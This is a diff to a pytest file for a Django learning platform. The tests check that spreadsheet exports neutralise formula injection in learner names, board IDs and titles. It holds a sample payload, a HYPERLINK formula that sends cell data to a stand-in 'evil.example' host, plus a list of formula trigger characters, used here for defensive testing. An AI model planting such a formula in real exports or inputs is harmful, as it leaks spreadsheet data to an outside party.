@@ -1,15 +1,16 @@
 """Exports never hand a spreadsheet program a formula: every cell a learner,
 mentor or staff member typed is neutralised (cms.spreadsheets) in the PARS
-export, the transcript CSV and Wagtail's own report exports."""
+batch file (xlsx), the transcript CSV and Wagtail's own report exports."""
 
 import csv
 import io
 
-from django.urls import reverse
-
+import openpyxl
 import pytest
 
 from cms import spreadsheets
+from learning.models import BoardCertification
+from learning.reporting.batches import create_batch, preview
 from tests.factories import (
     GuidePageFactory,
     InstitutionFactory,
@@ -19,6 +20,7 @@ from tests.factories import (
 )
 
 from .conftest import complete
+from .report_fixtures import add_moc, certify, learner, reporting_institution, reporting_path
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
 TRIGGERS = tuple("=+-@\t\r＝＋－＠")
@@ -57,27 +59,31 @@ def assert_no_formula(text):
     assert not live, live
 
 
-@pytest.mark.django_db
-def test_pars_export_neutralises_names_and_board_ids(client, django_capture_on_commit_callbacks):
-    institution = InstitutionFactory(name="@Institution")
-    path = LearningPathPageFactory(title="=Path", slug="path", institution=institution)
-    learner = UserFactory(username="doctor-x")
-    LearnerProfileFactory(
-        user=learner, full_name=HOSTILE_NAME, board_id="+ABIM-1", pars_consent=True
-    )
-    with django_capture_on_commit_callbacks(execute=True):
-        complete(learner, path)
-    staff = UserFactory(username="staff-x", groups=["Institution staff"])
-    institution.staff.add(staff)
-    client.force_login(staff)
+def xlsx_cells(content):
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
 
-    text = client.get(reverse("learning_pars_export")).content.decode()
-    row = next(csv.DictReader(io.StringIO(text)))
-    assert row["learner_name"] == "'" + HOSTILE_NAME
-    assert row["board_id"] == "'+ABIM-1"
-    assert row["activity"] == "'=Path"
-    assert row["credits"] == "1.25"
-    assert_no_formula(text)
+
+@pytest.mark.django_db
+def test_pars_batch_xlsx_neutralises_names_and_board_ids(client):
+    institution, staff = reporting_institution(name="@Institution", slug="at")
+    path = reporting_path(institution, title="=Path")
+    user = learner("doctor-x", HOSTILE_NAME, "-Smith", boards=(("ABIM", "123456"),))
+    certificate = certify(user, path)
+    add_moc(certificate, board_id="+ABIM-1")
+    BoardCertification.objects.filter(profile__user=user).update(board_id="+ABIM-1")
+    client.force_login(staff)
+    batch = create_batch(institution, "CME", staff)
+    cells = xlsx_cells(client.get(f"/admin/cme-reports/batches/{batch.pk}/learners.xlsx").content)
+    values = [c.value for c in cells]
+    assert "'" + HOSTILE_NAME in values and "'-Smith" in values
+    assert values[0].startswith("'@Institution")  # the guidance line names the institution
+    assert all(c.data_type != "f" for c in cells)
+    live = [v for v in values if isinstance(v, str) and v.lstrip(" ").startswith(TRIGGERS)]
+    assert not live, live
+    # The hostile board ID is not an ABIM ID: that row is held back, never written.
+    plan = preview(institution, "ABIM")
+    assert plan.adds == [] and [p.field for p in plan.problems] == ["board_id"]
 
 
 @pytest.mark.django_db
